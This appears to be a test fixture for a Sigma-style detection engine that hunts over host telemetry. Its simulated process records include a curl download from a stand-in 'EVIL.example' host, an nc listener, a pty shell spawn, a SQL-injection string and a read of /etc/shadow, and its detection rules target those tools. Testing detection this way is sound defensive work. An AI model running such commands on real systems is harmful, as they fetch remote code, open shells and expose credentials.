import assert from 'node:assert/strict';
import { type IngestContext, ingestBatch } from '../../src/ingest/index.js';
import type { PofrRecord } from '../../src/protocol/index.js';
import type { Store } from '../../src/store/index.js';
import { addHost, endpoint, file, inventory, proc, T0, type TestHost } from '../ingest/host-fixture.js';

const S = 1_000_000;

/**
 * One host whose history the detection tests hunt over, ingested as real signed batches (so every
 * row points at the batch that recorded it): batch 1 holds the processes, batch 2 files and sockets.
 */
export async function huntFixture(
  store: Store,
  onApplied?: IngestContext['onApplied'],
): Promise<{ host: TestHost; hashes: string[] }> {
  const host = await addHost(store, { name: 'web1' });
  const hashes: string[] = [];
  const send = async (records: PofrRecord[]) => {
    const b = host.next(records);
    const r = await ingestBatch(store, b.bytes, { principal: host.hostId, onApplied });
    assert.equal(r.status, 'accepted', JSON.stringify(r));
    hashes.push(b.hash);
  };
  const at = (n: number) => T0 + n * S;
  await send([
    inventory(at(0)),
    {
      type: 'process_start',
      t: at(1),
      proc: proc(100, 5, { exe: '/usr/bin/bash', argv: ['bash'], ruid: 1000, cwd: '/home/alice' }),
    },
    {
      type: 'process_start',
      t: at(2),
      proc: proc(101, 6, {
        ppid: 100,
        parent_start_ticks: 5,
        exe: '/usr/bin/curl',
        argv: ['curl', '-s', 'http://EVIL.example/x.sh'],
        ruid: 1000,
        cwd: '/tmp',
      }),
    },
    {
      type: 'process_start',
      t: at(3),
      proc: proc(102, 7, { exe: '/usr/bin/nc', argv: ['nc', '-lvp', '4444'] }),
    },
    {
      type: 'process_start',
      t: at(4),
      proc: proc(103, 8, {
        exe: '/usr/bin/python3',
        argv: ['python3', '-c', 'import pty; pty.spawn("/bin/sh")'],
      }),
    },
    // LIKE's own wildcards in the data, and Sigma's escaped ones in a rule, must stay literal.
    { type: 'process_start', t: at(5), proc: proc(104, 9, { exe: '/tmp/x%y_z', argv: ['a*b'] }) },
    { type: 'process_start', t: at(6), proc: proc(105, 10, { exe: '/tmp/xAyBz', argv: ['aXb'] }) },
    // A hostile command line: quotes, a newline and SQL in it are data, never SQL.
    {
      type: 'process_start',
      t: at(7),
      proc: proc(106, 11, {
        exe: '/bin/sh',
        argv: ['sh', '-c', "echo '; DROP TABLE processes; --\nx"],
        cwd: null,
      }),
    },
  ]);
  await send([
    { type: 'file_open', t: at(8), file: file(101, 6, 3, '/etc/shadow') },
    { type: 'file_open', t: at(8), file: file(101, 6, 4, '/tmp/x.sh') },
    {
      type: 'endpoint_open',
      t: at(9),
      endpoint: endpoint('c1', { pid: 101, start_ticks: 6, remote_ip: '192.168.1.5' }),
    },
    {
      type: 'endpoint_open',
      t: at(9),
      endpoint: endpoint('c2', {
        pid: 101,
        start_ticks: 6,
        remote_ip: '8.8.8.8',
        remote_port: 53,
        proto: 'udp',
      }),
    },
    {
      type: 'endpoint_open',
      t: at(9),
      endpoint: endpoint('c3', {
        pid: 103,
        start_ticks: 8,
        family: 6,
        local_ip: 'fe80::2',
        remote_ip: 'fe80::1',
        remote_port: 80,
      }),
    },
    {
      type: 'endpoint_open',
      t: at(9),
      endpoint: endpoint('l1', {
        pid: 102,
        start_ticks: 7,
        local_port: 4444,
        remote_ip: '0.0.0.0',
        remote_port: 0,
        state: 'LISTEN',
      }),
    },
  ]);
  return { host, hashes };
}

/** A rule around a detection block (indented YAML lines), for one logsource category. */
export function rule(detection: string, category = 'process_creation'): string {
  return `title: test rule
id: 00000000-0000-4000-8000-000000000001
author: Test Author
level: high
logsource:
  product: linux
  category: ${category}
detection:
${detection}
`;
}

/** Each modifier and condition form, and the pids of huntFixture's rows it must select. */
export const PROCESS_CASES: [string, string, number[]][] = [
  ['plain value, case-insensitive', `  sel:\n    Image: '/USR/BIN/CURL'\n  condition: sel`, [101]],
  ['cased, other case', `  sel:\n    Image|cased: '/USR/BIN/CURL'\n  condition: sel`, []],
  ['cased, same case', `  sel:\n    Image|cased: '/usr/bin/curl'\n  condition: sel`, [101]],
  ['contains', `  sel:\n    CommandLine|contains: 'evil.EXAMPLE'\n  condition: sel`, [101]],
  ['startswith', `  sel:\n    CommandLine|startswith: 'nc '\n  condition: sel`, [102]],
  ['endswith', `  sel:\n    Image|endswith: '/python3'\n  condition: sel`, [103]],
  [
    'contains|all, all present',
    `  sel:\n    CommandLine|contains|all: [pty, spawn]\n  condition: sel`,
    [103],
  ],
  ['contains|all, one missing', `  sel:\n    CommandLine|contains|all: [pty, nowhere]\n  condition: sel`, []],
  ['a list is OR', `  sel:\n    Image|endswith: ['/nc', '/curl']\n  condition: sel`, [101, 102]],
  ['a map is AND', `  sel:\n    Image|endswith: /curl\n    User: alice\n  condition: sel`, [101]],
  ['User falls back to the uid', `  sel:\n    User: root\n    Image|endswith: /nc\n  condition: sel`, [102]],
  [
    'a list of maps is OR',
    `  sel:\n    - Image: /usr/bin/nc\n    - Image: /usr/bin/python3\n  condition: sel`,
    [102, 103],
  ],
  ['? wildcard', `  sel:\n    Image: '/usr/bin/c?rl'\n  condition: sel`, [101]],
  ['* wildcard', `  sel:\n    CommandLine: 'nc*4444'\n  condition: sel`, [102]],
  ['escaped * is literal', `  sel:\n    CommandLine: 'a\\*b'\n  condition: sel`, [104]],
  ['% and _ in a value are literal', `  sel:\n    Image: '/tmp/x%y_z'\n  condition: sel`, [104]],
  ['re', `  sel:\n    CommandLine|re: '^nc -l[a-z]+ [0-9]{4}$'\n  condition: sel`, [102]],
  ['ParentImage', `  sel:\n    ParentImage|endswith: /bash\n  condition: sel`, [101]],
  ['ParentCommandLine', `  sel:\n    ParentCommandLine: bash\n  condition: sel`, [101]],
  ['CurrentDirectory', `  sel:\n    CurrentDirectory: /tmp\n  condition: sel`, [101]],
  ['exists false', `  sel:\n    CurrentDirectory|exists: false\n  condition: sel`, [106]],
  ['windash', `  sel:\n    CommandLine|windash|contains: '/lvp'\n  condition: sel`, [102]],
  [
    'hostile value is data',
    `  sel:\n    CommandLine|contains: "'; DROP TABLE processes; --"\n  condition: sel`,
    [106],
  ],
  [
    'not',
    `  sel:\n    Image|startswith: /usr/bin/\n  filter:\n    Image|endswith: /bash\n  condition: sel and not filter`,
    [101, 102, 103],
  ],
  [
    'not of a missing field keeps the row',
    `  sel:\n    Image|endswith: /sh\n  filter:\n    CurrentDirectory: /\n  condition: sel and not filter`,
    [106],
  ],
  [
    '1 of sel_*',
    `  sel_a:\n    Image|endswith: /nc\n  sel_b:\n    Image|endswith: /curl\n  condition: 1 of sel_*`,
    [101, 102],
  ],
  [
    'all of sel_*',
    `  sel_a:\n    Image|endswith: /curl\n  sel_b:\n    User: alice\n  condition: all of sel_*`,
    [101],
  ],
  [
    '1 of them',
    `  a:\n    Image|endswith: /nc\n  b:\n    Image|endswith: /python3\n  condition: 1 of them`,
    [102, 103],
  ],
  [
    'all of them',
    `  a:\n    Image|endswith: /curl\n  b:\n    CurrentDirectory: /tmp\n  condition: all of them`,
    [101],
  ],
  [
    'parentheses and or',
    `  a:\n    Image|endswith: /nc\n  b:\n    Image|endswith: /curl\n  c:\n    User: alice\n  condition: (a or b) and not c`,
    [102],
  ],
  [
    'a list of conditions is OR',
    `  a:\n    Image|endswith: /nc\n  b:\n    Image|endswith: /curl\n  condition: [a, b]`,
    [101, 102],
  ],
];

export const NETWORK_CASES: [string, string, number[]][] = [
  ['cidr IPv4', `  sel:\n    DestinationIp|cidr: 192.168.0.0/16\n  condition: sel`, [101]],
  ['cidr IPv4 not on an octet', `  sel:\n    DestinationIp|cidr: 8.8.8.0/23\n  condition: sel`, [101]],
  ['cidr IPv6', `  sel:\n    DestinationIp|cidr: fe80::/10\n  condition: sel`, [103]],
  ['DestinationPort as a number', `  sel:\n    DestinationPort: 53\n  condition: sel`, [101]],
  ['gt on a port', `  sel:\n    DestinationPort|gt: 60\n  condition: sel`, [101, 103]],
  [
    'pofr field Host on a connection',
    `  sel:\n    Host: web1\n    DestinationPort: 80\n  condition: sel`,
    [103],
  ],
  ['Initiated', `  sel:\n    Initiated: 'true'\n    Image|endswith: /python3\n  condition: sel`, [103]],
  ['a listener is not a connection', `  sel:\n    Image|endswith: /nc\n  condition: sel`, []],
];
